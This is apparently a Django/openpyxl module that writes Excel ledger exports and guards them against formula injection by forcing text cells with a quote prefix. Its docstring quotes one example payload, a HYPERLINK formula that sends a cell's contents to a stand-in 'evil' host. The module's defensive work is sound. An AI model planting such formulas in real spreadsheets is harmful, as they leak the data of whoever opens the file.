"""Excel workbooks: every export and template of Anquan is built and written through this module.

A cell holding text a user typed can be turned against whoever opens the file (OWASP "CSV/formula
injection"): an enterprise named ``=HYPERLINK("http://evil…?leak="&A1,"点击查看")`` would become a live
formula. So every row goes through `append_row`, which
- writes every string as an explicit string cell (``t="inlineStr"``), never a formula; a string that
  starts with a formula character (``= + - @``, tab, carriage return) also gets Excel's "quote prefix"
  style, so Excel and LibreOffice show it as text and keep it text when the cell is edited (the
  equivalent of OWASP's leading apostrophe, without changing the value a re-import reads back);
- drops characters a workbook cannot hold (control characters, lone surrogates: textclean's
  ``strip_for_export``) — the second line of defence after input cleaning, so one stray character in
  old data never makes an export fail;
- cuts text at Excel's limit of 32,767 characters per cell.
Numbers, dates and booleans are written as they are.

Every export is a `Ledger` sheet, ready to file as it comes out: a title row naming the region (or
department, or enterprise) and the list, a second row with "截至" and the time it was made, the header
row in bold with a fill, columns as wide as their content usually is, the header frozen, an autofilter
over the list, and printing set to A4 landscape, one page wide, the header row on every page. Its file
name is Chinese (`export_filename`), sent as RFC 6266 ``filename*`` (`xlsx_response`).
"""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from django.conf import settings
from django.db import NotSupportedError
from django.db.models import CharField, Func, Value
from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.writer.excel import ExcelWriter

from .textclean import strip_for_export
from .xlsx_rows import BATCH_ROWS, EXCEL_CELL_MAX, FORMULA_START, RowRenderer, streamable

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def export_workbook() -> Workbook:
    """A new streaming (write-only) workbook for an export; add sheets with `add_sheet`."""
    return Workbook(write_only=True)


def template_workbook() -> Workbook:
    """A new ordinary workbook (styles, data validation) for an import template."""
    return Workbook()


def safe_cell(ws, value) -> Cell:
    """`value` as a cell of `ws` that can never be a formula (see the module's docstring)."""
    if isinstance(value, str):
        text = strip_for_export(value)[:EXCEL_CELL_MAX]
        cell = Cell(ws, row=1, column=1, value=text)  # append() sets the real place
        cell.data_type = "s"  # openpyxl would make a formula of a string starting with "="
        if text.startswith(FORMULA_START):
            cell.quotePrefix = True
        return cell
    return Cell(ws, row=1, column=1, value=value)


def append_row(ws, values) -> None:
    """Append `values` to worksheet `ws` (write-only or not), each through `safe_cell`."""
    ws.append([safe_cell(ws, value) for value in values])


class Sheet:
    """A worksheet whose only way in is `append_row`."""

    def __init__(self, worksheet):
        self.worksheet = worksheet

    def append(self, values) -> None:
        append_row(self.worksheet, values)


def add_sheet(workbook: Workbook, title: str) -> Sheet:
    return Sheet(workbook.create_sheet(title))


def attachment(filename: str) -> str:
    """The Content-Disposition of a download named `filename` (Chinese as RFC 6266 ``filename*``)."""
    header = content_disposition_header(True, filename)
    assert header is not None  # always one for an attachment
    return header


# zlib level of the workbook's parts: 3 makes files within a few per cent of the default level's (6) in a third of
# the time, which was half of a large export's (50,000 ledger rows: 1.5 s → 0.5 s, 3.9 → 4.1 MB)
COMPRESS_LEVEL = 3


def save(workbook: Workbook, handle) -> None:
    """Write `workbook` (openpyxl, also write-only) into the binary file `handle`: openpyxl's `save_workbook` at
    `COMPRESS_LEVEL`."""
    if workbook.write_only and not workbook.worksheets:
        workbook.create_sheet()  # as Workbook.save does
    workbook.properties.modified = timezone.now().replace(tzinfo=None)
    with zipfile.ZipFile(
        handle, "w", zipfile.ZIP_DEFLATED, allowZip64=True, compresslevel=COMPRESS_LEVEL
    ) as archive:
        ExcelWriter(workbook, archive).save()


def xlsx_response(workbook, filename: str) -> HttpResponse:
    """`workbook` (openpyxl, also write-only) saved into an attachment named `filename`."""
    buffer = io.BytesIO()
    save(workbook, buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = attachment(filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


# ---- lists ready to file --------------------------------------------------------------------------

UNSAFE_IN_NAME = re.compile(r'[\\/:*?"<>|\x00-\x1f]+')


def export_filename(owner: str, title: str, when: datetime.datetime | None = None) -> str:
    """濂溪区隐患排查治理台账_20261201.xlsx: owner and list in Chinese, the local date; characters file
    systems refuse replaced."""
    stamp = timezone.localtime(when).strftime("%Y%m%d")
    name = UNSAFE_IN_NAME.sub("_", f"{owner}{title}").strip(" ._")[:120] or "导出"
    return f"{name}_{stamp}.xlsx"


def owner_name(user, region=None) -> str:
    """Whose list it is, as a title says it: the enterprise of an enterprise account; else the region
    (`region`, a filter's region inside the user's scope, or the user's own) and the user's department."""
    enterprise = getattr(user, "enterprise", None)
    if enterprise is not None:
        return enterprise.name
    region = region or getattr(user, "region", None)
    department = getattr(user, "department", None)
    return (region.name if region is not None else "") + (department.name if department is not None else "")


def minute(d: datetime.datetime) -> str:
    """2026-12-01 09:05 (strftime's "%Y-%m-%d %H:%M" for years from 1000, a third of its time): an export's
    times, already in local time."""
    return f"{d.year}-{d.month:02d}-{d.day:02d} {d.hour:02d}:{d.minute:02d}"


class _PostgresFormat(Func):
    """A column as the text an export shows it, formatted by PostgreSQL (other databases format in Python)."""

    output_field = CharField()

    def as_sql(self, compiler, connection, **extra):  # type: ignore[override]
        raise NotSupportedError(
            f"{type(self).__name__} is PostgreSQL's: format the value in Python elsewhere"
        )

    def as_postgresql(self, compiler, connection, **extra):
        return super().as_sql(compiler, connection, **extra)


class LocalMinute(_PostgresFormat):
    """`minute` of a timestamp column in settings.TIME_ZONE (to_char … AT TIME ZONE)."""

    template = "to_char(%(expressions)s, 'YYYY-MM-DD HH24:MI')"
    arg_joiner = " AT TIME ZONE "

    def __init__(self, expression: str) -> None:
        super().__init__(expression, Value(settings.TIME_ZONE))


class IsoDate(_PostgresFormat):
    """A date column as 2026-12-01 (`date.isoformat`)."""

    template = "to_char(%(expressions)s, 'YYYY-MM-DD')"


def as_of(when: datetime.datetime | None = None) -> str:
    """截至2026年12月01日 19:05 (local time)."""
    return f"截至{timezone.localtime(when):%Y年%m月%d日 %H:%M}"


@dataclass(frozen=True)
class Column:
    label: str
    width: float = 12  # Excel character widths; a Chinese character takes about 2
    wrap: bool = False  # long text: wrapped in its column instead of running over the next


THIN = Side(style="thin", color="808080")
HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
HEADER_ROW = 3  # title, "截至" line, header


class Ledger:
    """A list sheet ready to file (see the module's docstring). Rows go in through `append` (so through
    `safe_cell`); `close` writes the rows still pending and sets the autofilter over what was written, so
    it must be called after the last row. Works on write-only workbooks: all the layout that must precede
    the rows is set here, before the first one. On a write-only workbook the rows are rendered in batches
    (`xlsx_rows`: the same cells, about ten times faster)."""

    def __init__(
        self,
        workbook: Workbook,
        sheet_title: str,
        *,
        title: str,
        columns: list[Column],
        subtitle: str = "",
    ):
        ws = workbook.create_sheet(sheet_title[:31])
        self.worksheet, self.columns, self.rows = ws, columns, 0
        fast = streamable(ws)
        last = get_column_letter(len(columns))
        self.last_letter = last
        for index, column in enumerate(columns, start=1):
            ws.column_dimensions[get_column_letter(index)].width = column.width
        ws.freeze_panes = f"A{HEADER_ROW + 1}"
        ws.merged_cells.add(f"A1:{last}1")
        ws.merged_cells.add(f"A2:{last}2")
        ws.row_dimensions[1].height = 30
        ws.row_dimensions[HEADER_ROW].height = 30
        ws.page_setup.orientation = "landscape"
        ws.page_setup.paperSize = 9  # A4 (ECMA-376 ST_PaperSize)
        ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
        ws.sheet_properties.pageSetUpPr.fitToPage = True
        ws.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"
        ws.print_options.horizontalCentered = True
        ws.oddFooter.center.text = "第 &P 页，共 &N 页"
        ws.page_margins.left = ws.page_margins.right = 0.4
        self._styled([title], font=Font(bold=True, size=16), align=Alignment(horizontal="center"))
        self._styled([subtitle], font=Font(size=11), align=Alignment(horizontal="right"))
        self._styled(
            [c.label for c in columns],
            font=Font(bold=True),
            align=Alignment(horizontal="center", vertical="center", wrap_text=True),
            fill=HEADER_FILL,
            border=Border(left=THIN, right=THIN, top=THIN, bottom=THIN),
        )
        self._wrap = Alignment(wrap_text=True, vertical="top")
        self._top = Alignment(vertical="top")
        styles = [self._wrap if column.wrap else self._top for column in columns]
        self._renderer = RowRenderer(ws, styles, HEADER_ROW) if fast else None

    def _styled(self, values: list, *, font=None, align=None, fill=None, border=None) -> None:
        cells = []
        for value in values:
            cell = safe_cell(self.worksheet, value)
            if font is not None:
                cell.font = font
            if align is not None:
                cell.alignment = align
            if fill is not None:
                cell.fill = fill
            if border is not None:
                cell.border = border
            cells.append(cell)
        self.worksheet.append(cells)

    def append(self, values: Iterable[Any]) -> None:
        values = values if isinstance(values, list | tuple) else list(values)
        renderer = self._renderer
        if renderer is not None and renderer.add(values):
            if len(renderer.pending) >= BATCH_ROWS:
                self._flush()
        else:
            self._flush()
            cells = []
            for value, column in zip(values, self.columns, strict=True):
                cell = safe_cell(self.worksheet, value)
                cell.alignment = self._wrap if column.wrap else self._top
                cells.append(cell)
            self.worksheet.append(cells)
            if renderer is not None:
                renderer.skip()
        self.rows += 1

    def _flush(self) -> None:
        batch = self._renderer.take() if self._renderer is not None else None
        if batch is not None:
            self.worksheet.append(batch)

    def close(self) -> None:
        """The rows still pending, and the autofilter over the header and every row written; call once,
        after the last row."""
        self._flush()
        self.worksheet.auto_filter.ref = f"A{HEADER_ROW}:{self.last_letter}{HEADER_ROW + self.rows}"


def ledger_sheet(
    workbook: Workbook,
    sheet_title: str,
    *,
    owner: str,
    title: str,
    columns: list[Column],
    when: datetime.datetime | None = None,
    note: str = "",
) -> Ledger:
    """A `Ledger` titled "<owner><title>" with "截至 <when>" (and `note`, e.g. the filters) below it."""
    subtitle = "　".join(x for x in (note, as_of(when)) if x)
    return Ledger(workbook, sheet_title, title=f"{owner}{title}", columns=columns, subtitle=subtitle)
